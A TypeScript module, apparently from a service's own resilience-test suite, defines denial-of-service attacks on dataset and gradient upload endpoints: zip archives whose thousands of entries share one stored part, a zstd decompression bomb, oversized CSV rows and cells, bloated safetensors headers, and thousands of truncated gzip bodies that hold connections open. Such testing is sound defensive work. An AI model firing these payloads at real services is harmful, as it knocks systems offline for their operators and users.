import { constants, gzipSync, zstdCompressSync } from "node:zlib";
import { setTimeout } from "node:timers/promises";
import { type Attack, crowd } from "./attack.ts";

/** An archive that names its one stored part again and again, and says that it has no bytes. */
function archive(partBytes: number, names: number): Buffer {
  const head = Buffer.alloc(30);
  head.write("PK\x03\x04", "latin1");
  const entries = Array.from({ length: names }, (_, at) => {
    const entry = Buffer.alloc(46);
    const name = Buffer.from(`${at}.npy`);
    entry.write("PK\x01\x02", "latin1");
    entry.writeUInt32LE(partBytes, 20);
    entry.writeUInt16LE(name.length, 28);
    return Buffer.concat([entry, name]);
  });
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(names, 8);
  end.writeUInt16LE(names, 10);
  end.writeUInt32LE(head.length + partBytes, 16);
  return Buffer.concat([head, Buffer.alloc(partBytes), ...entries, end]);
}

/** A safetensors file of so many tensors of one byte, with long names. */
function manyTensors(count: number, salt: number): Buffer {
  const name = "x".repeat(230);
  const entries = Array.from(
    { length: count },
    (_, at) => `"${name}${salt}_${at}":{"dtype":"BOOL","shape":[1],"data_offsets":[${at},${at + 1}]}`,
  );
  const header = Buffer.from(`{${entries.join(",")}}`);
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header, Buffer.alloc(count)]);
}

const row = `${"1,".repeat(400_000)}1\n`;
const inQuery = (columns: unknown): string => `/v1/datasets?columns=${encodeURIComponent(JSON.stringify(columns))}`;
const packedHead = (encoding: string, length: number): string =>
  `POST /v1/gradients HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Encoding: ${encoding}\r\nContent-Length: ${length}\r\n\r\n`;

/** What was found later: small files and headers that ask for much. */
export const furtherAttacks: readonly Attack[] = [
  {
    name: "archives of which 3,000 names share four megabytes",
    family: "memory",
    run: (attacker, signal) => crowd(4, 2, signal, () => attacker.post("/v1/datasets", archive(4_000_000, 3_000))),
  },
  {
    name: "400,000 columns, each in hundreds of places",
    family: "memory",
    run: async (attacker, signal) => {
      const ranges = Array.from({ length: 700 }, () => "0:400000");
      const roles = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`r${at}`, "0:400000"]));
      await crowd(4, 2, signal, (at) => attacker.post(inQuery(at % 2 === 0 ? { a: ranges } : roles), row + row));
    },
  },
  {
    name: "one cell of forty megabytes",
    family: "memory",
    run: (attacker, signal) => crowd(4, 2, signal, () => attacker.post("/v1/datasets", `"${"a\n".repeat(20_000_000)}",1\n`)),
  },
  {
    name: "32 kB of zstd that become a gigabyte and look 128 MB back",
    family: "memory",
    run: async (attacker, signal) => {
      const params = { [constants.ZSTD_c_windowLog]: 27 };
      const bomb = zstdCompressSync(Buffer.alloc(2 ** 30, " "), { params });
      const one = Buffer.concat([Buffer.from(packedHead("zstd", bomb.length)), bomb]);
      await crowd(24, 24, signal, () => attacker.raw(one, { reads: true }));
      await setTimeout(10_000, undefined, { signal }).catch(() => undefined);
    },
  },
  {
    name: "4,000 gzipped bodies that stop before their last byte",
    family: "connections",
    run: async (attacker, signal) => {
      const packed = gzipSync(Buffer.alloc(64_000, " "));
      const one = Buffer.concat([Buffer.from(packedHead("gzip", 9_000)), packed.subarray(0, -8)]);
      await crowd(4_000, 100, signal, () => attacker.raw(one, { reads: true }));
      await setTimeout(5_000, undefined, { signal }).catch(() => undefined);
    },
  },
  {
    name: "lists of datasets with thousands of long names",
    family: "event loop",
    run: async (attacker, signal) => {
      await crowd(24, 2, signal, (at) => attacker.post("/v1/datasets", manyTensors(8_000, at)));
      await crowd(60, 6, signal, () => attacker.get("/v1/datasets?limit=100"));
    },
  },
];
